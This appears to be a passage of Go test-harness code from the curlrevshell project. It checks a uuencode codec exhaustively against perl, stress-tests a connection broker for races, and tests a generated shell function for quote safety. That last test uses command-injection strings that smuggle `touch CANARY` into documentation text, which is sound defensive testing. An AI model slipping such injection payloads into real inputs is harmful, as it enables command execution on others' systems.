		}
		if 0 == len(l) {
			return i, -1 /* A lone CR: no length character. */
		}
		if 0 != (len(l)-1)%4 {
			return i, -1
		}
		n := 0
		if '`' != l[0] {
			if l[0] < 32 {
				return i, -1
			}
			n = int(l[0]) - 32
		}
		if len(l)-1 != (n+2)/3*4 {
			return i, -1
		}
		for j := 1; j < len(l); j++ {
			if l[j] < 32 || l[j] > 96 {
				return i, j
			}
		}
	}
	return -1, -1
}

func c15(r *ev.Result, tier string) {
	quick := isQuick(tier)
	r.Rule = "(a) every 3-byte group 0..2^24-1, each encoded alone vs reference, and the whole 48 MiB stream vs perl pack(u); " +
		"(b) every line fill 0..45 x 4+fill patterns; (c) every total length 0..N with 3 contents vs reference, perl pack and perl unpack; " +
		"(d) every string of length <=L over an 11-symbol decoder alphabet, plus CR-LF / blank-line / over-long rewrites of valid encodings. " +
		"A case is non-trivial when its (class, input) pair is new; all enumerated inputs are distinct by construction."

	go c15Watch(r, 5*time.Minute)
	var distinct atomic.Int64
	var evals atomic.Int64

	/* (a) all groups, one call each. */
	parallel(256, func(hi int) {
		var g [3]byte
		g[0] = byte(hi)
		for mid := 0; mid < 256; mid++ {
			g[1] = byte(mid)
			for lo := 0; lo < 256; lo++ {
				g[2] = byte(lo)
				got := uu.AppendEncode(nil, g[:])
				want := refEncode(g[:])
				if !bytes.Equal(got, want) {
					c15Viol(r, "encode-mismatch/group", fmt.Sprintf("group %x: got %q want %q", g, got, want), "encode", g[:])
				}
				dec, err := uu.AppendDecode(nil, got)
				if nil != err || !bytes.Equal(dec, g[:]) {
					c15Viol(r, "decode-roundtrip/group", fmt.Sprintf("group %x: decode gave %x, %v", g, dec, err), "decode", got)
				}
			}
		}
		evals.Add(65536)
		distinct.Add(65536)
	})
	r.Sample(8, map[string]any{"group": "000000", "encoded": string(refEncode([]byte{0, 0, 0}))})
	r.Sample(8, map[string]any{"group": "ff27c0", "encoded": string(refEncode([]byte{0xff, 0x27, 0xc0}))})

	/* (a') the whole stream against perl. */
	stream := make([]byte, 3<<24)
	for i := 0; i < 1<<24; i++ {
		stream[3*i] = byte(i >> 16)
		stream[3*i+1] = byte(i >> 8)
		stream[3*i+2] = byte(i)
	}
	p, err := newPerlUU()
	if nil != err {
		ev.Broken("perl: %s", err)
	}
	penc, pdec, err := p.roundTrip(stream)
	if nil != err {
		ev.Broken("perl stream: %s", err)
	}
	p.close()
	genc := uu.AppendEncode(nil, stream)
	if !bytes.Equal(genc, penc) {
		i := 0
		for i < len(genc) && i < len(penc) && genc[i] == penc[i] {
			i++
		}
		c15Viol(r, "encode-mismatch/stream", fmt.Sprintf("48 MiB stream differs from perl pack(u) at encoded offset %d", i), "encode", stream[(i/62)*45:min(len(stream), (i/62)*45+45)])
	}
	if !bytes.Equal(pdec, stream) {
		ev.Broken("perl unpack(pack) is not the identity?")
	}
	gdec, err := uu.AppendDecode(nil, penc)
	if nil != err || !bytes.Equal(gdec, stream) {
		c15Viol(r, "decode-roundtrip/stream", fmt.Sprintf("decoding perl's 48 MiB stream: err=%v equal=%v", err, bytes.Equal(gdec, stream)), "decode", penc[:62])
	}
	if m := uu.MaxEncodedLen(stream); m < len(genc) {
		c15Viol(r, "maxencodedlen/stream", fmt.Sprintf("MaxEncodedLen=%d < %d", m, len(genc)), "encode", nil)
	}
	evals.Add(1)
	distinct.Add(1)
	r.Set("stream_bytes_vs_perl", len(stream))

	/* (b) line fills. */
	for fill := 0; fill <= 45; fill++ {
		pats := [][]byte{bytes.Repeat([]byte{0}, fill), bytes.Repeat([]byte{0xff}, fill)}
		ramp := make([]byte, fill)
		for i := range ramp {
			ramp[i] = byte(i*7 + 1)
		}
		pats = append(pats, ramp)
		for z := 0; z < fill; z++ {
			b := bytes.Repeat([]byte{0x41}, fill)
			b[z] = 0
			pats = append(pats, b)
		}
		for _, pt := range pats {
			c15CheckEncode(r, "fill", pt)
			/* a full line in front as well */
			c15CheckEncode(r, "fill45+", append(bytes.Repeat([]byte{0x55}, 45), pt...))
			evals.Add(2)
			distinct.Add(2)
		}
	}

	/* (c) every total length, against perl too. */
	maxLen := 4096
	if !quick {
		maxLen = 65536
	}
	contents := func(n, k int) []byte {
		b := make([]byte, n)
		switch k {
		case 0: /* zeros */
		case 1:
			for i := range b {
				b[i] = byte(i*131 + i>>8*17 + 3)
			}
		case 2:
			x := uint32(n*2654435761 + 12345)
			for i := range b {
				x ^= x << 13
				x ^= x >> 17
				x ^= x << 5
				b[i] = byte(x)
			}
		}
		return b
	}
	var lens []int
	for n := 0; n <= maxLen; n++ {
		lens = append(lens, n)
	}
	if !quick {
		for k := 17; k <= 20; k++ {
			lens = append(lens, 1<<k-1, 1<<k, 1<<k+1)
		}
	}
	var perls sync.Pool
	nshard := ncpu() * 8
	parallel(nshard, func(sh int) {
		var p *perlUU
		if v := perls.Get(); nil != v {
			p = v.(*perlUU)
		} else {
			var err error
			if p, err = newPerlUU(); nil != err {
				ev.Broken("perl: %s", err)
			}
		}
		defer perls.Put(p)
		for li := sh; li < len(lens); li += nshard {
			n := lens[li]
			for k := 0; k < 3; k++ {
				if 0 == n && k > 0 {
					continue
				}
				src := contents(n, k)
				c15CheckEncode(r, "length", src)
				evals.Add(1)
				distinct.Add(1)
				/* perl on every length for content 2, and on all three
				for small lengths */
				if 2 == k || n <= 512 {
					penc, pdec, err := p.roundTrip(src)
					if nil != err {
						ev.Broken("perl: %s", err)
					}
					if genc := uu.AppendEncode(nil, src); !bytes.Equal(genc, penc) {
						c15Viol(r, "encode-mismatch/length-perl", fmt.Sprintf("len %d content %d differs from perl pack(u)", n, k), "encode", src)
					}
					if !bytes.Equal(pdec, src) {
						c15Viol(r, "perl-unpack/length", fmt.Sprintf("perl unpack of the encoding of len %d differs", n), "encode", src)
					}
					r.Inc("perl_comparisons", 1)
				}
			}
		}
	})
	for {
		v := perls.Get()
		if nil == v {
			break
		}
		v.(*perlUU).close()
	}
	r.Set("max_total_length", maxLen)
	r.Sample(8, map[string]any{"length": 46, "content": "xorshift", "encoded": string(refEncode(contents(46, 2)))})

	/* (d) decoder totality. */
	alpha := []byte{'`', ' ', '!', '#', 'M', '_', 'a', '\n', '\r', 0x1f, 0x80}
	maxL := 6
	if !quick {
		maxL = 7
	}
	var okN, errN atomic.Int64
	/* shard on the first two symbols */
	for L := 0; L <= 2 && L <= maxL; L++ {
		enumStrings(alpha, L, func(s []byte) {
			if c15CheckDecode(r, "short", s, nil, false) {
				okN.Add(1)
			} else {
				errN.Add(1)
			}
			evals.Add(1)
			distinct.Add(1)
		})
	}
	parallel(len(alpha)*len(alpha), func(i int) {
		pre := []byte{alpha[i/len(alpha)], alpha[i%len(alpha)]}
		for L := 1; L <= maxL-2; L++ {
			buf := make([]byte, 2+L)
			copy(buf, pre)
			enumInto(alpha, buf, 2, func(s []byte) {
				if c15CheckDecode(r, "short", s, nil, false) {
					okN.Add(1)
				} else {
					errN.Add(1)
				}
			})
			n := ipow(len(alpha), L)
			evals.Add(int64(n))
			distinct.Add(int64(n))
		}
	})
	r.Set("decoder_inputs_accepted", okN.Load())
	r.Set("decoder_inputs_rejected", errN.Load())
	r.Set("decoder_alphabet", fmt.Sprintf("%q", alpha))
	r.Set("decoder_max_len", maxL)
	r.Sample(8, map[string]any{"decoder_input": "!M`\r\n", "note": "one of the enumerated invalid inputs"})

	/* Rewrites of valid encodings. */
	for n := 0; n <= 200; n++ {
		src := contents(n, 2)
		enc := refEncode(src)
		crlf := bytes.ReplaceAll(enc, []byte("\n"), []byte("\r\n"))
		if c15CheckDecode(r, "crlf", crlf, src, false) {
			r.Inc("crlf_accepted", 1)
		}
		blank := bytes.ReplaceAll(enc, []byte("\n"), []byte("\n\n"))
		c15CheckDecode(r, "blank", append([]byte("\n"), blank...), src, false)
		/* trailing zero-length line, as uuencode(1) writes */
		c15CheckDecode(r, "zeroline", append(append([]byte{}, enc...), '`', '\n'), src, false)
		for _, lb := range []byte{'N', '_', 0x7f, 0x80, 0xff, 0x00, 0x1f} {
			if len(enc) > 0 {
				e2 := append([]byte{}, enc...)
				e2[0] = lb
				c15CheckDecode(r, "overlong", e2, nil, false)
				evals.Add(1)
				distinct.Add(1)
			}
		}
		/* every single-byte substitution by a byte outside the alphabet
		in the first line */
		if n > 0 && n <= 48 {
			for i := 1; i < len(enc) && i < 62; i++ {
				for _, bad := range []byte{0x1f, 0x61, 0x7f, 0x80, 0xff, 0x00} {
					e2 := append([]byte{}, enc...)
					e2[i] = bad
					c15CheckDecode(r, "badchar", e2, nil, false)
					evals.Add(1)
					distinct.Add(1)
				}
			}
		}
		evals.Add(3)
		distinct.Add(3)
	}

	/* Very long lines (no encoder writes them, a file may hold them): in the
	middle of valid text, of a valid shape or not; the decoder must locate
	the problem, or decode all of it. */
	for _, n := range []int{4096, 65535, 65536, 65537, 70001, 1 << 20} {
		for _, fill := range []byte{'M', '!', 'a'} {
			long := bytes.Repeat([]byte{fill}, n)
			enc := append(append(append([]byte("#0V%T\n"), long...), '\n'), []byte("#0V%T\n")...)
			c15CheckDecode(r, "long-line", enc, nil, false)
			evals.Add(1)
			distinct.Add(1)
		}
	}

	/* Every length character with a data part of exactly the matching
	size (lines longer than an encoder writes, which the decoder accepts as
	perl does), three contents each, alone and after a full line: the
	decoder must return exactly the bytes the characters stand for. */
	nLen := 0
	for c := 0x20; c <= 0xff; c++ {
		n := c - 0x20
		if '`' == c {
			n = 0
		}
		for ci, pat := range []string{"A", "`", "M_ !#0Zz"} {
			line := []byte{byte(c)}
			var want []byte
			k := 4 * ((n + 2) / 3)
			for i := 0; i < k; i++ {
				ch := pat[i%len(pat)]
				if ch > 0x60 {
					ch = 0x40 + ch%0x20
				}
				line = append(line, ch)
			}
			for i := 0; i+4 <= k; i += 4 {
				var q [4]byte
				for j := range q {
					q[j] = (line[1+i+j] - 0x20) & 0x3f
				}
				want = append(want, q[0]<<2|q[1]>>4, q[1]<<4|q[2]>>2, q[2]<<6|q[3])
			}
			want = want[:n]
			line = append(line, '\n')
			for _, pre := range [][]byte{nil, refEncode(contents(45, 1))} {
				enc := append(append([]byte{}, pre...), line...)
				orig := want
				if nil != pre {
					orig = append(append([]byte{}, contents(45, 1)...), want...)
				}
				c15CheckDecode(r, fmt.Sprintf("length-char-%d", ci), enc, orig, true)
				nLen++
			}
		}
	}
	evals.Add(int64(nLen))
	distinct.Add(int64(nLen))
	r.Set("length_characters_with_matching_data", nLen)

	r.Evaluations = int(evals.Load())
	r.Distinct = int(distinct.Load())
	c15OneProcessor(r)
	r.Exhaustive = true
	r.Assume("perl's pack('u')/unpack('u') (perl 5.36 in this image) is the compatibility reference")
	r.Assume("contents at large sizes are three fixed patterns; all 2^24 groups and all fills are covered completely, the codec being group-local")
}

func ipow(b, e int) int {
	n := 1
	for i := 0; i < e; i++ {
		n *= b
	}
	return n
}

// enumStrings calls f with every string of exactly length L over alpha.
func enumStrings(alpha []byte, L int, f func([]byte)) {
	buf := make([]byte, L)
	enumInto(alpha, buf, 0, f)
}

// enumInto fills buf[from:] with every combination.
func enumInto(alpha []byte, buf []byte, from int, f func([]byte)) {
	if from == len(buf) {
		f(buf)
		return
	}
	for _, c := range alpha {
		buf[from] = c
		enumInto(alpha, buf, from+1, f)
	}
}

func c15Replay(kind string, raw json.RawMessage) int {
	if "c15one" == kind {
		r := ev.New("C15", "quick", "exploration")
		c15OneProcessor(r)
		if r.NViolations() > 0 {
			fmt.Println("reproduced")
			return 1
		}
		fmt.Println("not reproduced")
		return 0
	}
	var c c15Case
	if err := json.Unmarshal(raw, &c); nil != err {
		return 2
	}
	var data []byte
	fmt.Sscanf(c.Hex, "%x", &data)
	r := ev.New("C15", "quick", "exploration")
	switch c.Op {
	case "encode":
		fmt.Printf("input  %x\nencode %q\nwant   %q\n", data, uu.AppendEncode(nil, data), refEncode(data))
		c15CheckEncode(r, "replay", data)
	case "decode":
		d, err := uu.AppendDecode(nil, data)
		fmt.Printf("input  %q\ndecode %x err=%v\n", data, d, err)
		c15CheckDecode(r, "replay", data, nil, false)
	}
	if r.NViolations() > 0 {
		fmt.Println("reproduced")
		return 1
	}
	fmt.Println("not reproduced")
	return 0
}
