package checks

/*
 * A free-running complement to C01's exploration.  The gated exploration
 * serialises whole admission sections (its granularity is the broker's
 * critical sections); what it cannot produce is two attempts *inside* the
 * admission checks at the same moment.  Here pairs of attempts that exclude
 * each other (different IDs in the two directions, the same direction twice,
 * a bidirectional client next to a unidirectional one) are released together
 * against an idle real broker, thousands of times, ungated.  Oracle: when
 * both calls have settled (returned = refused, or announced as connected),
 * the attached set obeys the rule.  This samples the runtime's schedules; it
 * can only ever add findings.
 */

import (
	"context"
	"fmt"
	"io"
	"log/slog"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/internal/iobroker"
	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/verifx/ev"
	"github.com/magisterquis/curlrevshell/verifx/hworld"
)

type c01Att struct{ kind, key string }

// c01ConnLog notes the "New connection" records of one attempt.
type c01ConnLog struct {
	mu   *sync.Mutex
	dirs *[]string
	dir  string
}

func (h c01ConnLog) Enabled(context.Context, slog.Level) bool { return true }
func (h c01ConnLog) WithGroup(string) slog.Handler            { return h }
func (h c01ConnLog) WithAttrs(as []slog.Attr) slog.Handler {
	for _, a := range as {
		if iobroker.LKDirection == a.Key {
			h.dir = a.Value.String()
		}
	}
	return h
}
func (h c01ConnLog) Handle(_ context.Context, r slog.Record) error {
	if iobroker.LMNewConnection != r.Message {
		return nil
	}
	d := h.dir
	r.Attrs(func(a slog.Attr) bool {
		if iobroker.LKDirection == a.Key {
			d = a.Value.String()
		}
		return true
	})
	h.mu.Lock()
	*h.dirs = append(*h.dirs, d)
	h.mu.Unlock()
	return nil
}

func c01Stress(r *ev.Result, rounds int) {
	/* Every pair excludes each other: whatever is attached in the end
	belongs to one of the two attempts. */
	pairs := [][2]c01Att{
		{{"in", "a"}, {"out", "b"}},
		{{"in", "a"}, {"in", "a"}},
		{{"out", "a"}, {"out", "b"}},
		{{"io", ""}, {"out", "a"}},
		{{"io", ""}, {"io", ""}},
		{{"in", "A"}, {"out", "a"}},
		{{"io", ""}, {"in", "a"}},
	}
	n := 0
	for round := 0; round < rounds; round++ {
		pair := pairs[round%len(pairs)]
		ich := make(chan string, 4)
		och := make(chan opshell.CLine, 256)
		b, err := hworld.NewBroker(ich, och)
		if nil != err {
			ev.Broken("%s", err)
		}
		ctx, cancel := context.WithCancel(context.Background())
		var wg sync.WaitGroup
		wg.Add(1)
		go func() { defer wg.Done(); b.Do(ctx) }()
		start := make(chan struct{})
		var (
			mu   sync.Mutex
			dirs [2][]string
			done [2]chan struct{}
			pws  [2]*io.PipeWriter
		)
		for k := 0; k < 2; k++ {
			done[k] = make(chan struct{})
			var pr *io.PipeReader
			pr, pws[k] = io.Pipe()
			sl := slog.New(c01ConnLog{mu: &mu, dirs: &dirs[k]})
			go func(k int) {
				defer close(done[k])
				<-start
				addr := fmt.Sprintf("client%d", k)
				switch pair[k].kind {
				case "in":
					b.ConnectIn(ctx, sl, addr, io.Discard, pair[k].key)
				case "out":
					b.ConnectOut(ctx, sl, addr, pr, pair[k].key)
				default:
					b.ConnectInOut(ctx, sl, addr, io.Discard, pr)
				}
			}(k)
		}
		close(start)
		isDone := func(k int) bool {
			select {
			case <-done[k]:
				return true
			default:
				return false
			}
		}
		/* Settle: every attempt has either returned (refused) or has a
		"New connection" record for each of its directions. */
		deadline := time.Now().Add(hworld.Watchdog)
		unsettled := false
		for {
			for more := true; more; { /* Keep the terminal moving. */
				select {
				case <-och:
				default:
					more = false
				}
			}
			settled := true
			mu.Lock()
			for k := 0; k < 2; k++ {
				want := 1
				if "io" == pair[k].kind {
					want = 2
				}
				if !isDone(k) && len(dirs[k]) < want {
					settled = false
				}
			}
			mu.Unlock()
			if settled {
				break
			}
			if time.Now().After(deadline) {
				unsettled = true
				break
			}
			time.Sleep(20 * time.Microsecond)
		}
		n++
		if unsettled {
			mu.Lock()
			state := fmt.Sprintf("first: returned %v, attached %v; second: returned %v, attached %v", isDone(0), dirs[0], isDone(1), dirs[1])
			mu.Unlock()
			r.Violate(ev.Violation{Signature: "free-running/attempt-neither-attached-nor-ended", Kind: "c01stress", Replay: map[string]any{"pair": fmt.Sprintf("%v", pair), "round": round},
				What: fmt.Sprintf("real broker, idle; the attempts %v released together (free-running, round %d): %v later one of them is neither attached with all its streams nor ended (%s): a refused attempt is ended at once", pair, round, hworld.Watchdog, state)})
			cancel()
			break
		}
		mu.Lock()
		a0, a1 := append([]string{}, dirs[0]...), append([]string{}, dirs[1]...)
		mu.Unlock()
		problem := ""
		if !isDone(0) && !isDone(1) && 0 != len(a0) && 0 != len(a1) {
			problem = fmt.Sprintf("both are attached: the first with its %v stream(s), the second with its %v stream(s)", a0, a1)
		}
		cancel()
		for k := 0; k < 2; k++ {
			pws[k].Close()
		}
		for k := 0; k < 2 && "" == problem; k++ {
			select {
			case <-done[k]:
			case <-time.After(hworld.Watchdog):
				problem = fmt.Sprintf("attempt %v has not ended %v after its context was cancelled and its stream closed", pair[k], hworld.Watchdog)
			}
		}
		if "" != problem && (!isDone(0) || !isDone(1)) {
			r.Violate(ev.Violation{Signature: "free-running/attempt-never-ends", Kind: "c01stress", Replay: map[string]any{"pair": fmt.Sprintf("%v", pair), "round": round},
				What: fmt.Sprintf("real broker, idle; the attempts %v released together (free-running, round %d): %s", pair, round, problem)})
			n++
			break
		}
		go func() {
			for range och {
			}
		}()
		wg.Wait()
		close(och)
		if "" != problem {
			r.Violate(ev.Violation{Signature: "free-running/excluded-pair-attached", Kind: "c01stress", Replay: map[string]any{"pair": fmt.Sprintf("%v", pair), "round": round},
				What: fmt.Sprintf("real broker, idle; the attempts %v released together (free-running, round %d): %s", pair, round, problem)})
			break
		}
	}
	r.Add(n)
	r.Traces += n
	r.Set("free_running_simultaneous_pairs", n)
}
