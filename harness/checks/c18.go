package checks

/*
 * C18 — the generated tab_list function lists the documented functions and is
 * quote-safe.  Every string of up to L symbols over a shell-significant
 * alphabet is placed after the TABDOC tag (as name, as description, as both);
 * the generated function is sourced by dash and by bash with echo replaced by
 * a stub that reports argc and the exact bytes of every argument.
 */

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"sync"
	"testing/fstest"

	"github.com/magisterquis/curlrevshell/lib/shellfuncsfile"
	"github.com/magisterquis/curlrevshell/verifx/ev"
)

func init() {
	registry["C18"] = checkDef{level: "exploration", run: c18, replay: c18Replay}
}

var c18Alphabet = []string{
	"'", "\"", "\\", "$", "`", "(", ")", ";", "&", "|", "<", ">", "*", "~", "#", "!", "{", " ", "a",
	"\x01", "\x7f", "\x80", "é",
}

// c18Case is one payload given to GenFuncList.
type c18Case struct {
	Lines []string `json:"doc_lines"` /* Text after the tag, one per TABDOC line. */
	Class string   `json:"class"`
	/* LongLine, if not 0, puts a line of that many bytes after the first
	doc line (a one-line blob inside some function). */
	LongLine int `json:"long_line,omitempty"`
	/* Sources, for the Converter.From seam: what was converted. */
	Sources []string `json:"sources,omitempty"`
	/* Locale, if set, is the LC_ALL of the process that generates the
	function (the shells that run it stay in the C locale). */
	Locale string `json:"generator_locale,omitempty"`
}

func (c c18Case) payload() string {
	var sb strings.Builder
	sb.WriteString("f() { :; }\n")
	for i, l := range c.Lines {
		sb.WriteString(shellfuncsfile.DocPrefix + l + "\n")
		if 0 == i && 0 != c.LongLine {
			sb.WriteString("blob='" + strings.Repeat("Q", c.LongLine) + "'\n")
		}
	}
	sb.WriteString("# not a doc line\n")
	return sb.String()
}

// c18Rows is the reference: the distinct (name, description) pairs.
func c18Rows(c c18Case) [][2]string {
	set := map[[2]string]bool{{shellfuncsfile.ListFuncName, shellfuncsfile.ListFuncDesc}: true}
	for _, l := range c.Lines {
		l = strings.TrimSpace(l)
		if "" == l {
			continue
		}
		name, desc, _ := strings.Cut(l, " ")
		set[[2]string{strings.TrimSpace(name), strings.TrimSpace(desc)}] = true
	}
	var rows [][2]string
	for r := range set {
		rows = append(rows, r)
	}
	sort.Slice(rows, func(i, j int) bool {
		if rows[i][0] != rows[j][0] {
			return rows[i][0] < rows[j][0]
		}
		return rows[i][1] < rows[j][1]
	})
	return rows
}

// c18Stub replaces echo: argc, then every argument framed by its byte length.
const c18Stub = `LC_ALL=C; export LC_ALL
echo() { printf 'CALL %d\n' "$#"; for a in "$@"; do printf 'ARG %d\n%s\nEND\n' "${#a}" "$a"; done; }
`

// c18Call is one observed call of the stub.
type c18Call struct {
	Args []string
}

type c18Obs struct {
	Calls  []c18Call
	Junk   string /* Anything else on stdout. */
	Status int
}

// parseStub parses the stub's output for one case.
func c18ParseStub(out []byte) (obs c18Obs) {
	for len(out) > 0 {
		if !bytes.HasPrefix(out, []byte("CALL ")) {
			nl := bytes.IndexByte(out, '\n')
			if nl < 0 {
				nl = len(out) - 1
			}
			obs.Junk += string(out[:nl+1])
			out = out[nl+1:]
			continue
		}
		nl := bytes.IndexByte(out, '\n')
		argc, _ := strconv.Atoi(string(out[5:nl]))
		out = out[nl+1:]
		var call c18Call
		for i := 0; i < argc; i++ {
			if !bytes.HasPrefix(out, []byte("ARG ")) {
				obs.Junk += "truncated call"
				return
			}
			nl := bytes.IndexByte(out, '\n')
			n, _ := strconv.Atoi(string(out[4:nl]))
			out = out[nl+1:]
			if len(out) < n+5 {
				obs.Junk += "truncated arg"
				return
			}
			call.Args = append(call.Args, string(out[:n]))
			out = out[n:]
			if !bytes.HasPrefix(out, []byte("\nEND\n")) {
				obs.Junk += "bad arg framing"
				return
			}
			out = out[5:]
		}
		obs.Calls = append(obs.Calls, call)
	}
	return
}

// c18RunBatch sources every function file in its own subshell of one shell
// process and returns the observation per case.
func c18RunBatch(shell, dir string, funcs [][]byte) ([]c18Obs, string, error) {
	var script bytes.Buffer
	script.WriteString(c18Stub)
	script.WriteString("cd " + dir + " || exit 99\n")
	for i, f := range funcs {
		fn := filepath.Join(dir, fmt.Sprintf("case_%d.sh", i))
		if err := os.WriteFile(fn, f, 0o644); nil != err {
			return nil, "", err
		}
		fmt.Fprintf(&script, "( . ./case_%d.sh; tab_list ); printf '\\n=== %d %%d\\n' \"$?\"\n", i, i)
	}
	sp := filepath.Join(dir, "driver.sh")
	if err := os.WriteFile(sp, script.Bytes(), 0o644); nil != err {
		return nil, "", err
	}
	cmd := exec.Command(shell, sp)
	cmd.Dir = dir
	cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "LC_ALL=C", "HOME=" + dir}
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	cmd.Stdin = nil
	if err := cmd.Run(); nil != err {
		return nil, stderr.String(), fmt.Errorf("%s driver: %w: %s", shell, err, trunc80(stderr.String()))
	}
	/* Split at the separators. */
	obs := make([]c18Obs, len(funcs))
	rest := stdout.Bytes()
	for i := range funcs {
		sep := []byte(fmt.Sprintf("\n=== %d ", i))
		j := bytes.Index(rest, sep)
		if j < 0 {
			return nil, stderr.String(), fmt.Errorf("%s driver: separator %d missing", shell, i)
		}
		obs[i] = c18ParseStub(rest[:j])
		rest = rest[j+len(sep):]
		nl := bytes.IndexByte(rest, '\n')
		obs[i].Status, _ = strconv.Atoi(string(rest[:nl]))
		rest = rest[nl+1:]
	}
	return obs, stderr.String(), nil
}

// c18Judge compares what a shell did with the reference.
func c18Judge(r *ev.Result, shell string, c c18Case, fn []byte, o c18Obs, stderr string, canary bool) {
	v := func(sig, what string) {
		r.Violate(ev.Violation{
			Signature: sig + "/" + c.Class,
			What:      fmt.Sprintf("%s, doc lines %q: %s", shell, c.Lines, what),
			Kind:      "c18", Replay: c,
		})
	}
	rows := c18Rows(c)
	if canary {
		v("code-executed", "a command hidden in TABDOC text was executed (canary file created)")
	}
	if 0 != o.Status {
		v("status", fmt.Sprintf("tab_list ended with status %d; function: %q", o.Status, fn))
	}
	if "" != o.Junk {
		v("extra-output", fmt.Sprintf("output besides the rows: %q", o.Junk))
	}
	for _, cl := range o.Calls {
		if 1 != len(cl.Args) {
			v("row-not-one-word", fmt.Sprintf("echo was called with %d arguments %q; function: %q", len(cl.Args), cl.Args, fn))
			return
		}
	}
	if len(o.Calls) != len(rows) {
		v("row-count", fmt.Sprintf("%d rows printed, %d expected %q; function: %q", len(o.Calls), len(rows), rows, fn))
		return
	}
	var got []string
	for _, cl := range o.Calls {
		got = append(got, cl.Args[0])
	}
	if !sort.StringsAreSorted(got) {
		v("rows-unsorted", fmt.Sprintf("rows not in sorted order: %q", got))
	}
	/* Row fidelity: each row is name, padding, "- ", description. */
	seen := map[[2]string]bool{}
	for _, g := range got {
		name, rest, ok := strings.Cut(g, " ")
		rest = strings.TrimLeft(rest, " ")
		if !ok || !strings.HasPrefix(rest, "- ") && "-" != rest {
			v("row-shape", fmt.Sprintf("row %q is not 'name  - description'", g))
			return
		}
		seen[[2]string{name, strings.TrimPrefix(strings.TrimPrefix(rest, "-"), " ")}] = true
	}
	for _, want := range rows {
		if !seen[want] {
			v("row-missing", fmt.Sprintf("no row for name %q description %q among %q", want[0], want[1], got))
			return
		}
	}
}

func c18(r *ev.Result, tier string) {
	maxL := 3
	if !isQuick(tier) {
		maxL = 4
	}
	r.Rule = fmt.Sprintf("every string of <=%d symbols over the %d-symbol alphabet %q placed after the tag as name, as description and as both, plus classic quote-breakers with canary commands, "+
		"plus every sequence of <=4 doc lines over a 5-line menu (duplicates, empty ones, all permutations); each generated function sourced by dash and by bash with echo replaced by a "+
		"length-framing stub; distinct = distinct (payload, shell) pairs", maxL, len(c18Alphabet), c18Alphabet)

	var cases []c18Case
	var rec func(prefix string, depth int)
	rec = func(prefix string, depth int) {
		if "" != prefix {
			cases = append(cases,
				c18Case{Lines: []string{" " + prefix}, Class: "as-name"},
				c18Case{Lines: []string{" fn " + prefix}, Class: "as-description"},
				c18Case{Lines: []string{" " + prefix + " " + prefix, " other thing"}, Class: "as-both"},
			)
		}
		if depth == maxL {
			return
		}
		for _, s := range c18Alphabet {
			rec(prefix+s, depth+1)
		}
	}
	rec("", 0)
	for _, b := range []string{
		`'\''`, `'"'"'`, `$(touch CANARY)`, "`touch CANARY`", `\'`, `trailing\`, `'; touch CANARY; echo '`,
		`'$(touch CANARY)'`, `"; touch CANARY; "`, `'\''; touch CANARY #`, `x' 'y`, `x'`, `'`, `''`, `'''`,
		`\\'`, `a\'; touch CANARY; echo \'`, "x\\", `$HOME`, `~`, `*`, `{a,b}`, `a;b`, `a&&b`, `a|b`, `>CANARY`, `<CANARY`,
		`'>CANARY'`, `\n`, `%s%d`, `-n`, `-e \x41`,
		/* white space inside: runs of blanks, a no-break space, a CR */
		`x  y`, `a   b  c    d`, "nb\u00a0sp word", "cr\rinside here",
	} {
		cases = append(cases,
			c18Case{Lines: []string{" " + b}, Class: "breaker-name"},
			c18Case{Lines: []string{" fn " + b}, Class: "breaker-description"},
			c18Case{Lines: []string{" " + b + " " + b, " zz last"}, Class: "breaker-both"},
		)
	}
	/* Row-set behaviour. */
	menu := []string{" alpha first function", " beta second one", " alpha first function", "", " alpha another description", " q Ends in a '", " q Ends in a '\\''"}
	var seqs func(cur []string)
	seqs = func(cur []string) {
		if 0 != len(cur) {
			cases = append(cases, c18Case{Lines: append([]string{}, cur...), Class: "row-set"})
		}
		if 4 == len(cur) {
			return
		}
		for _, m := range menu {
			seqs(append(cur, m))
		}
	}
	seqs(nil)
	/* Payload shapes: very long lines between and inside doc lines. */
	for _, n := range []int{4095, 4096, 65535, 65536, 65537, 200000, 1 << 20} {
		cases = append(cases,
			c18Case{Lines: []string{" first one", " second after the long line", " third x"}, Class: "long-line-between", LongLine: n},
			c18Case{Lines: []string{" longdesc " + strings.Repeat("d", n), " zlast after"}, Class: "long-doc-line"},
		)
	}
	/* Listings of every size from 1 to 140 rows, a quote-breaker with a
	hidden command in every row (whatever an implementation does block-wise
	or with several workers, the last rows are rows like any other). */
	for n := 1; n <= 140; n++ {
		c := c18Case{Class: "row-count"}
		for k := 0; k < n; k++ {
			c.Lines = append(c.Lines, fmt.Sprintf(" f%03d it's row %d'; touch CANARY; echo '", k, k))
		}
		cases = append(cases, c)
	}
	r.Set("payloads", len(cases))

	base := ev.Scratch("c18-")
	defer os.RemoveAll(base)
	const batch = 400
	var mu sync.Mutex
	pass := func(cases []c18Case, tag string) {
		nb := (len(cases) + batch - 1) / batch
		parallel(nb*2, func(j int) {
			shell := []string{"dash", "bash"}[j%2]
			bi := j / 2
			lo, hi := bi*batch, min((bi+1)*batch, len(cases))
			dir := filepath.Join(base, fmt.Sprintf("%s%s-%d", tag, shell, bi))
			os.MkdirAll(dir, 0o755)
			funcs := make([][]byte, hi-lo)
			for i := lo; i < hi; i++ {
				f, err := shellfuncsfile.GenFuncList(cases[i].payload())
				if nil != err {
					r.Violate(ev.Violation{Signature: "generator-error/" + cases[i].Class, What: fmt.Sprintf("GenFuncList failed on %q: %v", cases[i].Lines, err), Kind: "c18", Replay: cases[i]})
					f = []byte("tab_list() { :; }\n")
				}
				funcs[i-lo] = f
			}
			obs, stderr, err := c18RunBatch(shell, dir, funcs)
			if nil != err {
				/* A case broke the driver itself: run the cases one by one. */
				for i := lo; i < hi; i++ {
					o1, se, err := c18RunBatch(shell, dir, funcs[i-lo:i-lo+1])
					if nil != err {
						r.Violate(ev.Violation{Signature: "driver-broken/" + cases[i].Class, What: fmt.Sprintf("%s could not even run the case %q: %v", shell, cases[i].Lines, err), Kind: "c18", Replay: cases[i]})
						continue
					}
					_, cerr := os.Stat(filepath.Join(dir, "CANARY"))
					os.Remove(filepath.Join(dir, "CANARY"))
